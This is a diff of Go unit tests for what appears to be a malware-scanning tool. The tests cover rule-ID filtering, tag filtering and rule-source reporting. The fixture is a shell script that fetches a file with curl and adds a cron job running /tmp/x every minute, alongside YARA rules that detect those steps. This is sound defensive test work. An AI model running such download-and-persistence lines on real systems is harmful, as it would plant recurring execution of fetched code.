+				t.Errorf("filterRuleIDs() kept %q, want %q", got, tt.want)
+			}
+			if want := 3 - len(tt.want); dropped != want {
+				t.Errorf("filterRuleIDs() dropped %d, want %d", dropped, want)
+			}
+		})
+	}
+
+	if err := ValidateRuleIDPatterns(malcontent.Config{IncludeRuleIDs: []string{"exfil/["}}); err == nil {
+		t.Error("ValidateRuleIDPatterns() accepted an invalid glob")
+	}
+	if err := ValidateRuleIDPatterns(malcontent.Config{ExcludeRuleIDs: []string{"anti-static/*"}}); err != nil {
+		t.Errorf("ValidateRuleIDPatterns() = %v", err)
+	}
+}
+
+func TestFilterByTag(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs := compileTestRules(t, map[string]string{"test/tags.yara": `
+rule cron_persistence : medium persistence {
+	strings:
+		$a = "crontab"
+	condition:
+		$a
+}
+
+rule remote_download : medium {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`})
+
+	fc := []byte("#!/bin/sh\ncurl -O https://example.com/x\n(crontab -l; echo '* * * * * /tmp/x') | crontab -\n")
+	mrs, err := yrs.Scan(fc)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	tests := []struct {
+		name     string
+		filter   []string
+		want     map[string][]string
+		filtered int
+	}{
+		{"unfiltered", nil, map[string][]string{
+			"cron_persistence": {"medium", "persistence"},
+			"remote_download":  {"medium"},
+		}, 0},
+		{"persistence", []string{"persistence"}, map[string][]string{
+			"cron_persistence": {"medium", "persistence"},
+		}, 1},
+		{"no match", []string{"trojan"}, map[string][]string{}, 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{FilterByTag: tt.filter}, "", nil, fc, nil)
+			if err != nil {
+				t.Fatalf("generate: %v", err)
+			}
+			got := map[string][]string{}
+			for _, b := range fr.Behaviors {
+				got[b.RuleName] = b.Tags
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("behavior tags = %v, want %v", got, tt.want)
+			}
+			if fr.FilteredBehaviors != tt.filtered {
+				t.Errorf("FilteredBehaviors = %d, want %d", fr.FilteredBehaviors, tt.filtered)
+			}
+		})
+	}
+}
+
+func TestRuleSource(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rule := `
+rule remote_download : medium {
+	strings:
+		$a = "curl"
+	condition:
+		$a
+}
+`
+	fc := []byte("#!/bin/sh\ncurl -O https://example.com/x\n")
+
+	tests := []struct {
+		namespace string
+		source    string
+	}{
+		{"net/download.yara", ""},
+		{"internal::net/download.yara", "internal"},
+	}
+	for _, tt := range tests {
+		yrs := compileTestRules(t, map[string]string{tt.namespace: rule})
+		mrs, err := yrs.Scan(fc)
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		fr, err := Generate(ctx, "test.sh", mrs, malcontent.Config{}, "", nil, fc, nil)
+		if err != nil {
+			t.Fatalf("generate: %v", err)
+		}
+		if len(fr.Behaviors) != 1 {
+			t.Fatalf("%s: got %d behaviors, want 1", tt.namespace, len(fr.Behaviors))
+		}
+
+		// The ruleset name is reported on its own, leaving the ID and URL of the rule unchanged
+		b := fr.Behaviors[0]
+		if b.RuleSource != tt.source || b.ID != "net/download" || !strings.HasSuffix(b.RuleURL, "/rules/net/download.yara#remote_download") {
+			t.Errorf("%s: RuleSource, ID, RuleURL = %q, %q, %q, want %q, net/download and the rule's URL", tt.namespace, b.RuleSource, b.ID, b.RuleURL, tt.source)
+		}
+	}
+}